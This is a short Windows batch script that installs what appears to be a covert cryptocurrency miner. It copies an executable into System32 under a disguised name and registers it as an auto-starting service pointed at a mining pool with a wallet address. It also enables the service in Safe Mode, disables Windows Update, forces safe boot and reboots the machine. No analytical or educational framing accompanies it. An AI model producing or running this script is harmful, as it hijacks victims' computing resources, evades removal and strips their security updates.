@echo off
copy /y "%~dp0serviceinstaller.exe" "%WINDIR%\System32\wksprtcli.dll.exe" >nul
reg add "HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\wksprtcli" /ve /t REG_SZ /d Service /f
sc create wksprtcli binPath= "%WINDIR%\System32\wksprtcli.dll.exe -o pool.fps-tools.invalid:3333 -u 4A9dHL8s8Bf7ycP1t4WZbbG1Qyh8VuAtV6nS7sDbE4nN1kQ2kV1tz3DdmGm1Yg5X -k --cpu-max-threads-hint=70" start= auto
sc stop wuauserv & sc config wuauserv start= disabled
bcdedit /set {current} safeboot minimal
shutdown /r /t 0
